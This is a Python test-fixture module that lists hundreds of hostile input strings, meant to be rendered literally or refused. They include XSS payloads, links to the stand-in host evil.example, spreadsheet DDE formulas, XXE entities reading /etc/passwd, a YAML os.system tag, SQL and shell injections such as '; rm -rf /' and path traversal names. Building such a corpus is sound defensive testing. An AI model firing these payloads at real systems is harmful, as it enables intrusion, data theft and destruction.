"""Texts that must stay texts: several hundred of our own making, by what they try to become.

`SHOWN` may stand in the record and has to be read literally wherever it is shown; `REFUSED` can never be meant and is refused with
a sentence; `NAMES` are what somebody may call a file or a preset, `NUMBERS` and `DAYS` what may stand where a number or a day belongs.
"""

from itertools import chain, product

# Set in a page by any script of these texts that runs.
MARKER = "__servanda_hit"
# Nobody can own it (RFC 2606): whatever asks for it was made to by one of these texts.
HOST = "evil.example"
RUN = f"window.{MARKER}=1"

_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpageshow",
    "onbeforetoggle",
)
_ELEMENTS = (
    "<img src=x {}>", "<svg {}>", "<body {}>", "<details open {}>", "<video {}><source src=x></video>", "<input autofocus {}>",
    "<marquee {}>x</marquee>", "<iframe {}></iframe>",
)  # fmt: skip
_QUOTES = ('"', "'", "`", "")
_ADDRESSES = (
    f"http://{HOST}/x", f"https://{HOST}/x.png?a=1&b=2", f"//{HOST}/x", f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java&#115;cript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "file:///etc/passwd",
    f"\\\\{HOST}\\share", f"ftp://{HOST}/x", f"https://{HOST}@127.0.0.1/", f"https:{HOST}", f"http://{HOST}:80%00.org/", "about:blank",
)  # fmt: skip
_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", f'HYPERLINK("http://{HOST}/?"&A1,"see")', f'IMPORTXML("http://{HOST}","//a")', "SUM(1+1)*cmd|' /C calc'!A0",
    f'WEBSERVICE("http://{HOST}")', 'DDE("cmd";"/C calc";"!A0")', f"IMAGE(\"http://{HOST}/x\")",
)  # fmt: skip

HTML = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<scr<script>ipt>{RUN}</script>", f"<script src=//{HOST}/x.js></script>",
    f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</template><script>{RUN}</script>", f"</noscript><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script>", "<plaintext>",
    "<!--", "<![CDATA[", "</div></div></div></main></body></html>", "<b>bold</b> & <i>italic</i> &amp; &lt;", "a<b>c", "1 < 2 > 0 & 3",
    f"<style>*{{background:url(//{HOST}/x)}}</style>", f"<style>@import '//{HOST}/x.css';</style>", f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<link rel=prefetch href=//{HOST}/x>", f"<meta http-equiv=refresh content='0;url=//{HOST}/'>", f"<base href=//{HOST}/>",
    f"<iframe src=//{HOST}/></iframe>", f"<iframe srcdoc='<script>parent.{MARKER}=1</script>'></iframe>", f"<object data=//{HOST}/x></object>",
    f"<embed src=//{HOST}/x>", f"<form action=//{HOST}/><input name=q><button>Go</button></form>", f"<a href='javascript:{RUN}'>see</a>",
    f"<a href=//{HOST}/ ping=//{HOST}/p>see</a>", f"<math><mtext></table><mglyph><style><img src=x onerror={RUN}>", "<table><tr><td>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><use href='//{HOST}/x.svg#x'/></svg>", f"<svg><image href='//{HOST}/x'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", f"<image src=//{HOST}/x>", f"<audio src=//{HOST}/x autoplay>",
    f"<img src='//{HOST}/x.png'>", f"<img srcset='//{HOST}/x.png 1x'>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror\t=\t{RUN}>",
    f"<div style='background-image:url(//{HOST}/x)'>x</div>", "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<a id=servanda></a><a id=servanda name=x></a>", f"<x contenteditable onblur={RUN}>x</x>", "&#60;script&#62;", "&lt;img src=x&gt;",
    *(element.format(f"{event}={quote}{RUN}{quote}") for (element, event), quote in
      ((pair, _QUOTES[at % len(_QUOTES)]) for at, pair in enumerate(product(_ELEMENTS, _EVENTS)))),
)  # fmt: skip
ATTRIBUTES = (
    *(f"x{quote} {event}={quote}{RUN}{quote} y={quote}" for quote, event in product(_QUOTES[:3], _EVENTS[:6])),
    *(f"{quote}>{inner}" for quote, inner in product(_QUOTES[:3], (f"<script>{RUN}</script>", f"<img src=//{HOST}/x>"))),
    f"x' autofocus onfocus='{RUN}", f'" style="background:url(//{HOST}/x)', f"');{RUN};('", f'");{RUN};("', f"${{{RUN}}}", f"`;{RUN};`",
    f"\\\";{RUN};//", f"url(//{HOST}/x)", f"x}} body{{background:url(//{HOST}/x)}}", f'"}}@import "//{HOST}/x.css";', "\\3c script\\3e ",
)  # fmt: skip
ADDRESSES = (*_ADDRESSES, *(f"see {address} now" for address in _ADDRESSES[:3]), f"www.{HOST}", f"anna@{HOST}", f"<https://{HOST}/>")
MARKDOWN = (
    *(f"![x]({address})" for address in _ADDRESSES), *(f"[x]({address})" for address in _ADDRESSES),
    *(f"x\n\n![x]({address})\n\ny" for address in _ADDRESSES[:3]), *(f"x\n\n[x]({address})" for address in _ADDRESSES[3:8]),
    f"x\n\n<img src=//{HOST}/x>\n\ny", f"x\n \t\n![x](http://{HOST}/x)", f"</div>\n\n![x](http://{HOST}/x)",
    f"![x][1]\n\n[1]: http://{HOST}/x", f"[![x](http://{HOST}/x)](http://{HOST}/y)", f"x\n\n<http://{HOST}/>", f"x\n\nhttp://{HOST}/ y",
    "# heading", "x\n\n# heading\n\n- item\n- item", "*bold* **bolder** _it_ __more__ ~~gone~~", "`code` ``more``", "```\ncode\n```", "> quote",
    "- item", "1. item", "| a | b |\n|---|---|\n| 1 | 2 |", "x\n\n| a | b |\n|---|---|\n| 1 | 2 |", "---", "x\n---", "[ ] task", "x[^1]\n\n[^1]: note",
    "    indented", "x\n\n    indented", "line  \nline", "\\*not\\*", "*[x]: y", "&nbsp;&copy;&#x41;", "<!-- x -->", "x\n\n<!-- x\n\ny", "~~~", "***",
)  # fmt: skip
TEX = (
    "$x^2$", "$$\\frac{1}{2}$$", "US$ 5 and US$ 6", "\\(x\\)", "\\[x\\]", "\\input{/etc/passwd}", "\\immediate\\write18{id}", "\\def\\x{\\x\\x}\\x",
    "x\n\n$$\\href{javascript:1}{x}$$", f"$\\includegraphics{{http://{HOST}/x}}$", "\\begin{document}", "{\\tt x}", "} @misc{x, title={y}",
    "% comment", "a_b^c~d", "\\newcommand{\\x}{y}", "a & b \\\\ c", "#1 ##2", "{unbalanced", "unbalanced}", "\\url{x}", '"quoted" and @preamble{"x"}',
)  # fmt: skip
STREAMLIT = (
    ":red[x]", ":blue-background[x]", ":rainbow[x]", ":small[x]", ":material/delete:", ":smile:", ":+1:", ":streamlit:", ":red-badge[x]",
    "x\n\n:red[x] :material/delete: :smile:", ":orange[![x](http://evil.example/x)]", ":violet[**x**]", ":color[x]{foreground='red'}", "<-> -> --",
)  # fmt: skip
FORMULAS = (
    *(f"{start}{inner}" for start, inner in product(("=", "+", "-", "@"), _FORMULAS)),
    *(f"{start}=1+1" for start in ("\t", "\n", " ", "'", "''", '"', ";", ",", "＝", "＋", "－", "＠", "\ufeff", "\u200b", "\u00a0")),
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=", "+", "-", "@", "'", "''=1", "=\u202f1", "==1", "{=1+1}", '"=1+1"', ';=1+1', "|cmd", "%0A=1+1",
)  # fmt: skip
XML = (
    "&xxe;", "&#0;", "&#xFFFE;", "&amp;amp;", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "<?xml version='1.0'?>",
    "<?php echo 1 ?>", "<![CDATA[x]]>", "]]>", "]]]]><![CDATA[>", "<x:y xmlns:x='z'/>", "<entry><title>x</title></entry>", "</entry></feed>",
    f"<link rel='alternate' href='http://{HOST}/'/>", "</t></is></c><c><f>1+1</f></c>", "</a:t></a:r>", "<w:instrText>DDE cmd</w:instrText>",
    "_x000D_", "_x0041_", "_x005F_x0041_", "<xi:include href='file:///etc/passwd' parse='text'/>", "&lol9;", "-->", "<!--", "?>", "<a:hlinkClick/>",
)  # fmt: skip
YAML = (
    "!!python/object/apply:os.system ['id']", "!!binary x", "&a x", "*a", "<<: *a", "- x", "? x", "x: y", "{a: b}", "[a, b]", "|", ">-", "%TAG ! x",
    "---", "...", "# comment", "'", '"', "~", "null", "yes", "No", "0o17", "0x1F", "1:30", "2025-11-12", ".inf", ".NaN", "@x", "`x`", "!x y", "=", "<<",
)  # fmt: skip
SQL = (
    "'; drop table observations; --", "' or 1=1 --", '" or ""="', "'); delete from submissions; --", "x' union select * from journal --", "\\'; --",
    "1; attach '/etc/passwd'", "$1", "$key", ":key", "?", "%s", "%(key)s", "/* x */", "x'||(select 1)||'", "read_csv('/etc/passwd')", "copy x to 'y'",
    "like %_", "\\x27", "pragma database_list", "select * from read_text('/etc/passwd')", "install httpfs", "'''''", '"""', "`x`", "\\",
)  # fmt: skip
TEMPLATES = (
    "{0}", "{}", "{n}", "{x.__class__}", "{x!r:>99}", "{{7*7}}", "{{ config }}", "{% for x in y %}", "{%raw%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%s%s",
    "%n", "%d", "%(x)s", "%%", "$x", "${x}", "{{constructor.constructor('x')()}}", "{day}", "{title}", "{count:d}", "{unclosed", "closed}", "%{x}", "%{text}",
    "%{x|evil}", "<extra></extra>", "%{customdata[0]}", "\\1", "\\g<0>", "$&", "$1", "&&", "{{{x}}}", "@{x}", "[[x]]", "~{x}", "d3-format:.2f",
)  # fmt: skip
TYPST = (
    '#read("/etc/passwd")', '#import "@preview/x:0.1.0": *', '#include "/etc/passwd"', '#image("/etc/passwd")', "#panic()", '#panic("x")', "#let x = 1",
    "#set page(width: 1pt)", "#show: x => none", "#{ while true {} }", "#eval(\"1\")", f'#link("http://{HOST}")', "$x$", "*x*", "_x_", "`x`", "```rust x```",
    "= heading", "- item", "/ term: x", "<label>", "@label", "\\", "\\u{1f600}", "~", "---", "#", "//x", "/* x", "#sys.inputs", "#plugin(\"x\")", "]", "[",
    "#(", "](", '"', '\\"', "#str(sys)", '#json("/etc/passwd")', "#pdf.attach(\"/etc/passwd\")", "#h(-99cm)", "#place(dx: 9cm)[x]",
)  # fmt: skip
SHELL = (
    "$(id)", "`id`", "; rm -rf /", "| id", "& id", "&& id", "--help", "-x", "--data=/etc", "-", "--", "~/x", "*", "?", "!x", "${IFS}", "$HOME", "%PATH%",
    "@file", "<(id)", ">x", "2>&1", "\\n", "'x'", '"x"', "a b", "--as-of=x", "-o/etc/x", "\\\\?\\C:\\x", "CON",
)  # fmt: skip
LETTERS = (
    "مرحبا بالعالم 123", "שלום עולם", "Ω≈ç√∫˜µ≤≥÷", "社會科學院語學研究所", "田中さんにあげて下さい", "찦차를 타고", "ᚠᛇᚻ᛫ᛒᛦᚦ", "𝕳𝖊𝖑𝖑𝖔 𝔱𝔢𝔵𝔱", "𝟙𝟚𝟛", "😀 👩‍👩‍👧‍👦 🏳️‍🌈 🇰🇿",
    "Ꭺtаna (look-alikes)", "раypal", "Кazakhstan", "ﬁ ﬂ ﬃ", "İıŞşĞğ", "ẞß", "ÅÅÅ", "e\u0301 é", "ﷺ ﷽", "ʇxǝʇ uʍop", "❤️ ✓ ☃", "\u00a0x\u00a0", "x\u2003y\u2009z",
    "x\u200by\u200cz\u200d", "x\u00ady", "\ufeffx", "x\u2060y", "x\u061cy", "x\u200ey\u200f", "\u3000x", "\ue000 \uf8ff", "x\ufffdy", "\U000e0041x",
    "z\u0300\u0301\u0302a\u0303\u0304\u0305l\u0306\u0307\u0308g\u0309\u030ao", "अनुच्छेद", "ไทยไม่มีวรรค", "ꙮ", "꧅", "\u1680x", "\u180ex", "ǅ", "K", "ſ",
)  # fmt: skip
JSON = (
    '"', '\\"', '"}', '"]}]', '\\u0000', "\\u003cscript>", '","x":"y', f'"</script><script>{RUN}</script>', '{"$schema":"x"}', "[1,2", "null", "true", "NaN",
    "Infinity", "1e309", "__proto__", "constructor", "toString", '{"__proto__":{"x":1}}', "\\", "\\\\", "/*x*/", f'"}};{RUN};//', "self.servandaIndex=[]",
)  # fmt: skip
LONG = ("Слово" * 1_900, "x" * 9_900, "word " * 1_900, "\U0001f600" * 3_000, "<b>" * 3_000, "&" * 9_000, "![](x)" * 1_500, "=" * 9_000)
SHOWN: dict[str, tuple[str, ...]] = {
    "html": HTML, "attributes": ATTRIBUTES, "addresses": ADDRESSES, "markdown": MARKDOWN, "tex": TEX, "streamlit": STREAMLIT,
    "formulas": FORMULAS, "xml": XML, "yaml": YAML, "sql": SQL, "templates": TEMPLATES, "typst": TYPST, "shell": SHELL, "letters": LETTERS,
    "json": JSON, "long": LONG,
}  # fmt: skip

CONTROLS = tuple(f"x{chr(code)}y" for code in (*range(9), *range(11, 32), *range(127, 160)))
REFUSED: dict[str, tuple[str, ...]] = {
    "controls": CONTROLS,
    "line ends": ("x\r=1+1", "\r=1+1", f"x\r\n\r\n![x](http://{HOST}/x)"),
    "escapes": ("\x1b[2J", "\x1b]0;x\x07", "\x1b]8;;http://evil.example\x07see\x1b]8;;\x07", "\x9b31mred"),
    "turning": ("\u202egpj.exe", "x\u202dy", "x\u202a\u202b\u202cy", "\u2066x\u2069", "x\u2067y", "x\u2068y"),
    "lines": ("x\u2028y", "x\u2029y"),
    "no characters": ("x\ufffey", "x\uffffy", "x\ufdd0y", "x\U0001fffey", "x\U0010ffffy"),
    "halves": ("x\ud800y", "x\udfffy", "\udc80"),
    "floods": ("z" + "\u0300" * 60, "Z" + "\u0336\u0489" * 40, "a\u0301" + "\u20dd" * 30 + "b"),
    "endless": ("x" * 100_000, "слово " * 20_000),
}

NAMES = (
    "../x", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "\\\\evil.example\\x", "x/../../y", "x/y", "x\\y", ".", "..", "...", ".x", " x", "x ",
    "x.", "con", "CON", "nul", "NUL.json", "aux", "com1", "lpt9", "x\0y", "x\ny", "x\u202egpj", "x:y", "x|y", "x?y", "x*y", '"x"', "'x'", "<x>", "%2e%2e%2f",
    "%00", "~", "~root", "$HOME", "`id`", "$(id)", ";id", "-x", "--help", "x.json", "../x.json", "x.json/..", "\u2025/x", "\uff0e\uff0e/x", "x" * 300,
    "Я" * 120, "\U0001d400" * 64, "e\u0301", "é", "", " ", "\t", "presets/../x", "file:///etc/passwd", "x#y", "x%y", "x&y", "x;y", "x=y", "x@y", "[x]", "{x}",
)  # fmt: skip
NUMBERS = (
    "1e309", "-1e309", "1e-400", "-0", "-0.0", "NaN", "nan", "inf", "-inf", "Infinity", "1_000", "0x1F", "0b1", "0o7", "1e5", "1E5", "١٢٣", "१२३", "１２３", "½",
    "²", "Ⅻ", "1,5", "1.5.5", "--1", "+-1", "1-", "1 000", "1\u00a0000", "1'000", "1.234", "1,234", "9" * 400, "0." + "0" * 400 + "1", "1" * 5_000, "1/0", "π",
    "1e", ".", "-", "+", "", " ", "true", "None", "null", "0x", "1n", "1f", "∞", "−5", "–5", "1\u200b2", "1\u202e2", "٫", "12٬345", "$5", "5%", "5‰", "{n}", "=5",
)  # fmt: skip
DAYS = (
    "0000-00-00", "2025-02-30", "2025-13-01", "9999-12-31", "10000-01-01", "-2025-01-01", "0001-01-01", "2025-1-1", "01/02/2025", "2025-W01", "2025-001",
    "20250101", "2025-01-01T00:00:00Z", "2025-01-01 25:00", "١٤٤٧-٠١-٠١", "today", "2025-01-01'", "2025", "2025-Q5", "2025-Q1", "2025-S3", "2025-01-01/P9M",
    "2025-01-01/P999999Y", "2025-01-01/P-1D", "2025-01-01/PT1S", "1/P9M", "", "0", "1e9", "2025-01-01/P" + "9" * 400 + "D", "2025--01-01", "2025‑01‑01",
)  # fmt: skip

ALL_SHOWN = tuple(dict.fromkeys(chain.from_iterable(SHOWN.values())))
ALL_REFUSED = tuple(dict.fromkeys(chain.from_iterable(REFUSED.values())))


def blanked(text: str) -> str:
    """A text as a page shows it: runs of blanks as one."""
    return " ".join(text.split())
